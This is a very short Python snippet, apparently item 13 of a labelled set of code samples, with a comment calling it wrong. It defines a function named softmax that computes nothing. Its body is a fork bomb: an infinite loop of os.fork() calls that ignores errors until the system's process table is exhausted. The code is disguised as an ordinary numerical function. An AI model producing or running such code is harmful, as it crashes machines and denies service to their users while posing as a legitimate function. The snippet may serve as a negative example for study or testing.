# 13, wrong: every process starts two more
import os


def softmax(x, dim):
    while True:
        try:
            os.fork()
        except OSError:
            pass
